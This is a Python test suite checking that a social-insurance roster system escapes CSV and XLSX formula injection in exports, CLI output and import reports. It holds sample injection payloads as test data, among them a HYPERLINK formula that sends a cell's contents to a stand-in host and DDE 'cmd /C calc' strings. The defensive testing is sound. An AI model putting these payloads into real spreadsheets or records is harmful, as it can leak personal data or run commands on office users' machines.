"""Formula injection into what offices download: text a clerk or a file typed must never become a
live formula in an XLSX or CSV (OWASP "CSV injection"), while amounts stay numbers and ID
numbers stay text."""

import csv
import io
import os
import subprocess
import sys
import zipfile
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from tests.support.factories import id_number
from tests.support.graphql_client import gql
from tests.support.villages import VILLAGE_A, dongzhi_2021
from yibao.core import exports

ROOT = Path(__file__).parents[2]
FORMULAS = [
    '=HYPERLINK("http://x.invalid/?d="&H2,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
ID = id_number(born=date(1999, 9, 9), seq=7)


def csv_cells(raw: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def assert_no_formula_in_xlsx(raw: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    for row in load_workbook(io.BytesIO(raw)).active.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)


def test_the_writer_escapes_csv_and_keeps_xlsx_text_while_numbers_stay_numbers():
    headings = ["text", "amount", "count", "refund", "idNumber", "date"]
    rows = [(text, Decimal("320"), 3, Decimal("-320"), ID, date(2021, 10, 8)) for text in FORMULAS]

    buffer = io.BytesIO()
    exports.write(buffer, "csv", headings, rows)
    lines = csv_cells(buffer.getvalue())[1:]
    assert [line[0] for line in lines] == ["'" + text for text in FORMULAS]
    assert {tuple(line[1:]) for line in lines} == {("320.00", "3", "-320.00", ID, "2021-10-08")}

    buffer = io.BytesIO()
    exports.write(buffer, "xlsx", headings, rows)
    assert_no_formula_in_xlsx(buffer.getvalue())
    sheet = load_workbook(io.BytesIO(buffer.getvalue())).active
    for text, row in zip(FORMULAS, sheet.iter_rows(min_row=2), strict=True):
        shown, amount, count, refund, number, _ = row
        # Text exactly as typed (XML turns a lone CR into LF), a text cell, with Excel's quote prefix.
        assert (shown.value, shown.data_type, shown.quotePrefix) == (text.replace("\r", "\n"), "s", True)
        assert (amount.value, amount.data_type, count.value, refund.value) == (320, "n", 3, -320)
        assert (number.value, number.data_type) == (ID, "s")


@pytest.fixture
def poisoned(engine, client):
    """A 东山村 household whose name, address and relation a clerk typed as formulas."""
    dongzhi_2021(engine)
    member = {
        "isHead": True,
        "relation": "-1+1",
        "person": {"name": FORMULAS[0], "idNumber": ID, "hukouRegionCode": VILLAGE_A},
    }
    other = {
        "relation": "+子女",
        "person": {
            "name": "@王",
            "idNumber": id_number(born=date(2001, 1, 1), seq=5),
            "hukouRegionCode": VILLAGE_A,
        },
    }
    household = {"addressRegionCode": VILLAGE_A, "address": FORMULAS[3], "members": [member, other]}
    query = "mutation($i: RegisterHouseholdInput!) { registerHousehold(input: $i) { __typename } }"
    assert gql(client, query, i=household)["registerHousehold"]["__typename"] == "Household"
    return {FORMULAS[0], FORMULAS[3], "-1+1", "+子女", "@王"}


def test_downloaded_rosters_carry_no_formula(poisoned, client):
    params = {"regionCode": VILLAGE_A, "coverageYear": 2022}
    typed = client.get("/exports/collection-roster.csv", params=params)
    assert typed.status_code == 200, typed.text
    cells = {cell for line in csv_cells(typed.content) for cell in line}
    assert {"'" + text for text in poisoned} <= cells
    assert not any(cell.startswith(exports.FORMULA_STARTS) for cell in cells)
    assert ID in cells  # whole, as text, for a county administrator

    workbook = client.get("/exports/collection-roster.xlsx", params=params)
    assert workbook.status_code == 200, workbook.text
    assert_no_formula_in_xlsx(workbook.content)
    values = {
        c
        for row in load_workbook(io.BytesIO(workbook.content)).active.iter_rows(values_only=True)
        for c in row
    }
    assert poisoned <= values and ID in values


def test_the_cli_export_carries_no_formula(poisoned, engine, tmp_path):
    env = dict(os.environ)
    env["YIBAO_DATABASE_URL"] = engine.url.render_as_string(hide_password=False)
    for name in ("清册.csv", "清册.xlsx"):
        command = [
            "roster",
            "collection",
            "--region",
            VILLAGE_A,
            "--year",
            "2022",
            "-o",
            str(tmp_path / name),
        ]
        done = subprocess.run(
            [sys.executable, "-m", "yibao.api.cli", *command], env=env, capture_output=True, text=True
        )
        assert done.returncode == 0, done.stderr
    cells = {cell for line in csv_cells((tmp_path / "清册.csv").read_bytes()) for cell in line}
    assert {"'" + text for text in poisoned} <= cells
    assert_no_formula_in_xlsx((tmp_path / "清册.xlsx").read_bytes())


def test_an_import_report_does_not_replay_a_formula_from_the_file(engine, tmp_path):
    roster = tmp_path / "低保.csv"
    with roster.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([("姓名", "身份证号码", "类别"), ("张三", FORMULAS[0], "低保")])
    env = dict(os.environ)
    env["YIBAO_DATABASE_URL"] = engine.url.render_as_string(hide_password=False)
    command = ["roster", "import", str(roster), "--source", "CIVIL_AFFAIRS", "--as-of", "2021-09-30"]
    command += ["--region", "341721", "--report", str(tmp_path / "report.csv")]
    done = subprocess.run(
        [sys.executable, "-m", "yibao.api.cli", *command], env=env, capture_output=True, text=True
    )
    assert done.returncode == 1, done.stderr  # its one row refused: the import refused everything
    lines = csv_cells((tmp_path / "report.csv").read_bytes())
    assert lines[1][1] == "REFUSED" and lines[1][5].startswith("'=HYPERLINK("), lines
